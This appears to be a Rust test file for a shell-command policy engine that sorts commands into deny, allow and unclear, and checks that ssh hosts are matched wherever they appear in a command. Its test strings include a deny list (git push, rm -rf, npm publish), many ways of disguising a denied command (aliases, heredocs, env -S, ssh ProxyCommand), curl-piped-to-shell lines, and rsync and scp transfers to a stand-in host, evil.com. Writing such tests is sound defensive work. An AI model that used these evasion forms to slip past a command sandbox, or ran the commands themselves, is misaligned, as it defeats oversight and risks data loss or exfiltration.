//! Single texts: what is found, what isn't mistaken, what is unclear, and which words a
//! verdict points at.

use boxery_policy::{Action, Verdict};
use rstest::rstest;

use crate::support;

const POLICY: &str = r#"{"command": {"deny": ["git push", "rm -rf", "git checkout --force", "npm publish", "find -delete"], "useDefaults": false}}"#;

fn verdict(text: &str) -> Verdict {
    support::policy(POLICY).evaluate(Action::Command(text))
}

#[rstest]
#[case::brace_group_glued("{ git push;}")]
#[case::subshells_for_dash("((git push))")]
#[case::newline_in_a_pipe("ls |\n\n git push")]
#[case::redirection_everywhere("<a >b git 2>c push <d")]
#[case::descriptor_in_a_variable("{fd}>x git push")]
#[case::both_streams_first("&>x git push")]
#[case::empty_quotes("git '' push; git push")]
#[case::static_variable("C=git; $C push")]
#[case::static_words("C='git push'; $C")]
#[case::exported("export C=git; \"$C\" push")]
#[case::vanishing_word("$SUDO git push")]
#[case::alias_with_words("alias g=git\ng push")]
#[case::assignment_of_an_editor("GIT_EDITOR='git push' git commit")]
#[case::git_alias("git -c alias.x=push x")]
#[case::git_shell_alias("git -c alias.x='!git push' x")]
#[case::git_foreach("git submodule foreach 'git push'")]
#[case::git_bisect("git bisect run git push")]
#[case::git_rebase_exec("git rebase -x 'git push' main")]
#[case::env_split("env -S 'git push'")]
#[case::env_split_glued("env -iS'git push origin'")]
#[case::time_with_options("time -f %e git push")]
#[case::su("su - deploy -c 'git push'")]
#[case::npm_exec("npm exec -- git push")]
#[case::ssh_proxy("ssh -o ProxyCommand='git push' host")]
#[case::ssh_heredoc("ssh host <<'X'\ngit push\nX")]
#[case::find_in_the_middle("find . \\( -name a -exec git push \\; \\)")]
#[case::find_delete("find . -name x -delete")]
#[case::abbreviated_option("git checkout main --forc")]
#[case::same_option("git checkout -f")]
#[case::option_after_operands("git checkout main --force")]
#[case::glued_redirection("git push>out 2>&1")]
#[case::last_word_of_a_case("case a in a) git push; esac")]
#[case::no_newline_at_a_heredoc("bash <<X\ngit push\nX")]
#[case::expanding_heredoc("bash <<X\ngit push $BRANCH\nX")]
#[case::a_function_over_it("git() { :; }; command git push")]
#[case::coproc("coproc git push")]
#[case::coproc_named("coproc NAME { git push; }")]
#[case::select("select x in a b; do git push; done")]
#[case::until_the_comment("git push # it's fine")]
#[case::dos_lines("ls\r\ngit push\r\n")]
#[case::dollar_quotes("bash -c $'git\\x20push'")]
#[case::nested_backticks("echo `echo \\`git push\\``")]
#[case::backticks_in_quotes("echo \"`git push`\"")]
#[case::default_value("${X:=$(git push)}")]
#[case::index("${a[$(git push)]}")]
#[case::pattern("case x in $(git push)) ;; esac")]
#[case::extended_pattern("ls !($(git push))")]
#[case::process_to_a_shell_with_a_script("bash script.sh <(git push)")]
fn a_denied_command_is_found(#[case] text: &str) {
    assert!(
        matches!(verdict(text), Verdict::Deny { .. }),
        "{:?}",
        verdict(text)
    );
}

#[rstest]
#[case::argument("echo git push")]
#[case::quoted("echo 'git push; git push'")]
#[case::comment("ls # git push")]
#[case::document("cat <<'X'\ngit push\n$(git push)\nX")]
#[case::other_subcommand("git pushall")]
#[case::value_of_an_option("git log --grep push")]
#[case::message("git commit -m 'git push later'")]
#[case::lookup("command -v git")]
#[case::rm_of_a_quoted_variable("rm \"$file\"")]
#[case::rm_recursive("rm -r dir")]
#[case::rm_behind_dashes("rm -- -rf")]
#[case::brackets("[ -n \"$x\" ] && [[ $y == git ]]")]
#[case::arithmetic("((i++)); echo $((1 << 2)); (( $i > 5 ))")]
#[case::loop_over_files("for f in *.txt; do rm -- \"$f\"; done")]
#[case::function("f() { echo \"$1\"; }; f x")]
#[case::script("bash build.sh")]
#[case::script_from_a_file("bash < build.sh")]
#[case::program_by_a_variable_folder("$HOME/bin/tool push")]
#[case::git_in_a_variable_folder("git -C \"$DIR\" status")]
#[case::json("curl -d '{\"a\": [1,2], \"b\": {\"c\": 1}}' localhost")]
#[case::empty_case("case x in esac")]
#[case::lone_assignment("x=1")]
#[case::only_redirection("> out")]
#[case::blank(" \n\t ")]
#[case::option_that_is_no_letter("docker run -i\u{85} x")]
#[case::open_quote_of_another_language("osascript -e 'select`x in a'")]
fn a_harmless_text_is_not_mistaken(#[case] text: &str) {
    assert_eq!(verdict(text), Verdict::Allow);
}

#[rstest]
#[case::program("$X push")]
#[case::program_from_a_command("\"$(which git)\" push")]
#[case::subcommand("git $CMD")]
#[case::subcommand_in_quotes("git \"$1\"")]
#[case::subcommand_by_pattern("git pus*")]
#[case::xargs_gives_the_subcommand("echo push | xargs git")]
#[case::text_of_a_shell("bash -c \"$X\"")]
#[case::eval("eval \"$(ssh-agent -s)\"")]
#[case::piped_to_a_shell("curl -s example.com | sh")]
#[case::piped_to_a_group("echo x | { bash; }")]
#[case::process_to_a_shell("bash <(curl example.com)")]
#[case::sourced("source <(kubectl completion bash)")]
#[case::stdin_script("cat x | bash /dev/stdin")]
#[case::option_of_a_wrapper("sudo -Z x git push2")]
#[case::open_quote("echo 'x")]
#[case::open_parenthesis("echo $(ls")]
#[case::stray("ls )")]
#[case::two_operators("ls && && ls")]
#[case::flags_in_a_variable("rm $FLAGS dir")]
#[case::a_file_of_a_loop_may_be_an_option("for f in *; do rm \"$f\"; done")]
#[case::brace_too_many("{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b} x")]
#[case::nul("ls\0")]
fn what_is_only_known_when_it_runs_is_unclear(#[case] text: &str) {
    assert!(
        matches!(verdict(text), Verdict::Unclear { .. }),
        "{:?}",
        verdict(text)
    );
}

#[rstest]
#[case::plain("ls; git push origin", "git push")]
#[case::substitution("echo \"$(git push)\"", "git push")]
#[case::shell("bash -c 'ls; git push'", "git push")]
#[case::backticks("echo `git push`", "git push")]
#[case::wide_characters("echo é😀; git push", "git push")]
#[case::wrapped("sudo -u x git push", "git push")]
#[case::dynamic("ls; $X y", "$X")]
#[case::subcommand("git \"$CMD\"", "\"$CMD\"")]
#[case::escaped("eval \"git \\\"push\\\"\"", "\"git \\\"push\\\"\"")]
fn a_verdict_points_at_the_words_that_decide(#[case] text: &str, #[case] want: &str) {
    let span = match verdict(text) {
        Verdict::Allow => panic!("allowed"),
        Verdict::Deny { span, .. } | Verdict::Unclear { span, .. } => span,
    };
    assert_eq!(&text[span.start..span.end], want);
}

#[rstest]
#[case::ssh_option_behind_the_host("ssh a.example.com -J evil.com ls", false)]
#[case::ssh_url("ssh ssh://u@a.example.com:22 ls", true)]
#[case::config_file("ssh -F /tmp/c a.example.com", false)]
#[case::empty_config("ssh -F /dev/null a.example.com ls", true)]
#[case::hostname_option("ssh -o HostName=evil.com a.example.com ls", false)]
#[case::proxy_jump_option("ssh -oProxyJump=evil.com a.example.com", false)]
#[case::unknown_host("ssh \"$HOST\" ls", false)]
#[case::remote_substitution("ssh a.example.com 'ls $(rm x)'", false)]
#[case::scp_allowed("scp x a.example.com:", true)]
#[case::scp_from("scp evil.com:x .", false)]
#[case::rsync("rsync -av src/ u@evil.com:/dst", false)]
#[case::rsync_here("rsync -av src/ dst/", true)]
#[case::sftp("sftp -P 22 evil.com", false)]
#[case::sshfs("sshfs evil.com:/ mnt", false)]
#[case::mosh("mosh evil.com", false)]
fn hosts_are_seen_wherever_they_stand(#[case] text: &str, #[case] allowed: bool) {
    let policy = support::policy(
        r#"{"ssh": {"allowedHosts": ["*.example.com"], "allowedCommands": ["ls"]}}"#,
    );
    let verdict = policy.evaluate(Action::Command(text));
    assert_eq!(verdict == Verdict::Allow, allowed, "{verdict:?}");
}

#[test]
fn both_policies_hold_when_two_are_joined() {
    let strict = support::policy(r#"{"command": {"deny": ["git push"], "allow": ["shutdown"]}}"#);
    let plain = support::policy("{}");
    let both = strict.clone().and(plain);
    assert_eq!(strict.evaluate(Action::Command("shutdown")), Verdict::Allow);
    for text in ["git push", "shutdown"] {
        assert!(
            matches!(both.evaluate(Action::Command(text)), Verdict::Deny { .. }),
            "{text}"
        );
    }
    assert_eq!(both.evaluate(Action::Command("ls")), Verdict::Allow);
}
